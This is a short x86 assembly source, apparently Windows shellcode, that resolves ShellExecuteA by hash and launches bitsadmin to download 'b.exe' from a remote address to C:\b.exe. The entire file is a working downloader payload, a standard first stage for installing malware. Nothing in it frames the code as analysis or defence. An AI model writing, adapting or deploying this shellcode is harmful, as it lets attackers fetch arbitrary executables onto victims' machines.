; Windows, 32 bit: ShellExecuteA starts bitsadmin, which downloads.
bits 32
%include "demo_resolve.inc"
%include "windows_calls.inc"
HASH execute, 'ShellExecuteA'
        RESOLVER
        LOAD library
        xor ecx, ecx
        push ecx
        push ecx
        lea edx, AT(parameters)
        push edx
        lea edx, AT(program)
        push edx
        push ecx
        push ecx
        CALL_API eax, execute
        jmp short $
library: db 'shell32', 0
program: db 'bitsadmin.exe', 0
parameters: db '/transfer n http://192.0.2.81/b.exe C:\b.exe', 0
